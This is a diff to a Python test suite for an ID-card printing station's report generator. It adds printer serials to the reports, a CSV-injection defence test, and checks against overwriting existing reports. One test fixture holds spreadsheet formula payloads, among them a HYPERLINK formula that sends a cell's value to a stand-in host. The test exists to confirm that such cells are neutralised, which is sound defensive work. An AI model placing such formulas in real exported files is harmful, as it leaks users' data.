@@ -13,7 +13,7 @@ from console.canonical import canonical_json, sha256_hex
 from console.errors import RefusedError, UsageError
 from console.i18n import current_language, set_language
 from tests.station import emulated_printer, make_engine
-from tests.test_report_kit import ALLOCATION, STATION_ID, print_cards, tag
+from tests.test_report_kit import ALLOCATION, STATION_ID, print_cards, station, tag, write_config
 from tests.test_report_kit import indonesian  # noqa: F401  (autouse: the messages in Bahasa Indonesia)
 
 REPORT_FIELDS = {"format", "station_id", "allocation", "counts", "good", "bad", "spoiled_no_nik", "generated_at",
@@ -65,9 +65,12 @@ async def test_fields_counts_and_report_id(printed):
     assert body["counts"] == {"good": 3, "bad": 2, "spoiled_no_nik": 0, "in_stock": 7}
     assert sum(body["counts"].values()) == body["allocation"]["received"]
     assert [c["nik"] for c in body["good"]] == niks[:3]
-    assert set(body["good"][0]) == {"nik", "card_counter", "printed_at"}
+    assert set(body["good"][0]) == {"nik", "card_counter", "printer_serial", "printed_at"}
+    serial = await store.scalar("SELECT value FROM meta WHERE key = 'printer.serial'")
+    assert serial and {card["printer_serial"] for card in body["good"] + body["bad"]} == {serial}
     assert body["bad"][1] | {"printed_at": None} == {
-        "nik": niks[4], "card_counter": 5, "printed_at": None, "reason": "lainnya", "note": "tergores"
+        "nik": niks[4], "card_counter": 5, "printer_serial": serial, "printed_at": None, "reason": "lainnya",
+        "note": "tergores",
     }
     assert body["report_id"] == sha256_hex({k: v for k, v in body.items() if k != "report_id"})
     stored = await store.fetchone("SELECT * FROM reports")
@@ -119,7 +122,7 @@ async def test_the_four_files(printed, tmp_path):
         good = list(csv.DictReader(f))
     with open(files.bad_csv, newline="", encoding="utf-8") as f:
         bad = list(csv.DictReader(f))
-    assert [row["nik"] for row in good] == niks[:3] and list(good[0]) == ["nik", "card_counter", "printed_at"]
+    assert [row["nik"] for row in good] == niks[:3] and list(good[0]) == ["nik", "card_counter", "printer_serial", "printed_at"]
     assert [(row["nik"], row["card_counter"], row["reason"], row["note"]) for row in bad] == [
         (niks[3], "4", "gagal_cetak", ""), (niks[4], "5", "lainnya", "tergores")
     ]
@@ -174,3 +177,68 @@ async def test_a_physical_count_difference_is_printed_on_the_signed_page_but_doe
     assert f"{in_stock - 1} blangko, buku {in_stock}, selisih -1" in line
     assert "count" not in json.dumps(report.body["counts"])  # the JSON of files.md is unchanged
     assert len(files.text.read_text(encoding="utf-8").splitlines()) <= reports.PAGE_LINES
+
+
+async def test_a_note_that_a_spreadsheet_would_run_is_written_as_text(printed, tmp_path):
+    """CSV injection: a cell beginning with = + - @ is prefixed with a quote in rusak.csv; the JSON keeps the note."""
+    store, niks = printed.store, printed.niks
+    notes = ['=HYPERLINK("http://contoh.invalid/?d="&A2,"klik")', "@SUM(1+1)", "+62 812", "-1+1"]
+    await tag(store, niks[:1], {})
+    for nik, note in zip(niks[1:5], notes):
+        await jobs.tag(store, nik, False, "test", "lainnya", note)
+    report = await reports.make_report(store, ALLOCATION, STATION_ID, "test")
+    files = reports.write_report_files(report.body, tmp_path / "out", "Loket 1")
+    with open(files.bad_csv, newline="", encoding="utf-8") as f:
+        written = [row["note"] for row in csv.DictReader(f)]
+    assert written == ["'" + note for note in notes]
+    assert [card["note"] for card in report.body["bad"]] == notes
+    with open(files.good_csv, newline="", encoding="utf-8") as f:
+        [good] = list(csv.DictReader(f))
+    assert good["nik"] == niks[0] and good["card_counter"] == "1"  # numbers and NIKs are never touched
+
+
+def test_every_csv_writer_of_the_project_goes_through_the_one_rule():
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parent.parent
+    offenders = [
+        str(path.relative_to(root))
+        for folder in ("console", "screens", "drivers", "scripts")
+        for path in (root / folder).rglob("*.py")
+        if path.name != "csv_safe.py"
+        and any(call in path.read_text(encoding="utf-8") for call in ("csv.writer(", "csv.DictWriter("))
+    ]
+    assert offenders == []
+
+
+async def test_another_reports_files_are_not_overwritten_without_force(tmp_path):
+    printed = await print_cards(tmp_path, residents=5, blanks=12, printing=4)
+    try:
+        await _another_reports_files(tmp_path, printed.store, printed.niks)
+    finally:
+        await printed.store.close()
+
+
+async def _another_reports_files(tmp_path, store, niks):
+    config = write_config(tmp_path)
+    out = tmp_path / "laporan"
+    await tag(store, niks[:4], {})
+    first = station(config, "report", ALLOCATION, "--out", str(out), "--json")
+    assert first.returncode == 0, first.stderr
+    before = {path.name: path.read_bytes() for path in out.iterdir()}
+    assert station(config, "report", ALLOCATION, "--out", str(out)).returncode == 0  # the same report: rewritten
+    await print_more(tmp_path, store, niks[4])
+    await tag(store, [niks[4]], {})
+    refused = station(config, "report", ALLOCATION, "--out", str(out))
+    assert refused.returncode == 2 and "--force" in refused.stderr and "baik.csv" in refused.stderr
+    assert {path.name: path.read_bytes() for path in out.iterdir()} == before
+    forced = station(config, "report", ALLOCATION, "--out", str(out), "--force", "--json")
+    assert forced.returncode == 0, forced.stderr
+    second = json.loads(forced.stdout)
+    assert second["report_id"] != json.loads(first.stdout)["report_id"]
+    on_disk = json.loads((out / f"laporan-{ALLOCATION}.json").read_text(encoding="utf-8"))
+    assert on_disk["report_id"] == second["report_id"]
+    elsewhere = tmp_path / "sebelumnya"  # a report of another allocation's files is another report's too
+    elsewhere.mkdir()
+    (elsewhere / "baik.csv").write_text("nik\n")
+    assert station(config, "report", ALLOCATION, "--out", str(elsewhere)).returncode == 2
